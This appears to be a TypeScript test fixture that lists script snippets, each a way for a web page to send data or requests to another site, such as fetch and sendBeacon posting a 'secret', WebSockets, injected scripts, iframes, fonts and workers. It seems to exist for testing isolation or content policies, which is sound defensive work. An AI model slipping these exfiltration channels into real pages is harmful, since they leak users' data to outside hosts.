// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are templates of the page that attacks

/**
 * Ways to carry something out of a page by leaving it, as scripts. Each asks for the path of its own name: `at(name)` is its address
 * on somebody else's site, `add(html)` puts markup into the page and gives its element.
 */
export const leaving: Record<string, string> = {
  location: "location.href = at('location')",
  replace: "location.replace(at('replace'))",
  assignParent: "parent.location.href = at('assignParent')",
  assignTop: "top.location.href = at('assignTop')",
  openTop: "open(at('openTop'), '_top')",
  refresh: 'add(`<meta http-equiv="refresh" content="0;url=${at(\'refresh\')}">`)',
  link: 'add(`<a href="${at(\'link\')}">x</a>`).click()',
  form: 'add(`<form method="post" action="${at(\'form\')}"></form>`).submit()',
};

/** Ways that leave the page where it is. */
export const staying: Record<string, string> = {
  fetch: "fetch(at('fetch'), { method: 'POST', mode: 'no-cors', body: 'secret' })",
  request: "const request = new XMLHttpRequest(); request.open('GET', at('request')); request.send()",
  beacon: "navigator.sendBeacon(at('beacon'), 'secret')",
  events: "new EventSource(at('events'))",
  socket: "new WebSocket(at('socket').replace('http', 'ws'))",
  image: "new Image().src = at('image')",
  script: "add('<p>').append(Object.assign(document.createElement('script'), { src: at('script') }))",
  module: "import(at('module'))",
  frame: 'add(`<iframe src="${at(\'frame\')}"></iframe>`)',
  nested: "add(`<iframe srcdoc=\"<script>location='${at('nested')}'<\\/script>\"></iframe>`)",
  object: 'add(`<object data="${at(\'object\')}"></object>`)',
  embed: 'add(`<embed src="${at(\'embed\')}">`)',
  film: 'add(`<video src="${at(\'film\')}" autoplay></video>`)',
  sheet: 'add(`<link rel="stylesheet" href="${at(\'sheet\')}">`)',
  importSheet: "add(`<style>@import '${at('importSheet')}'</style>`)",
  background: "document.body.style.background = `url(${at('background')})`",
  font: "new FontFace('x', `url(${at('font')})`).load()",
  prefetch: 'add(`<link rel="prefetch" href="${at(\'prefetch\')}">`)',
  worker: "new Worker(URL.createObjectURL(new Blob([`fetch('${at('worker')}', { mode: 'no-cors' })`])))",
  svg: 'add(`<svg><image href="${at(\'svg\')}" width="9" height="9"/></svg>`)',
};

/** What every such script finds around it. */
export function aroundWays(site: string): string {
  return `
    const at = (name) => ${JSON.stringify(`${site}/`)} + name;
    const add = (html) => { document.body.insertAdjacentHTML('beforeend', html); return document.body.lastElementChild; };`;
}
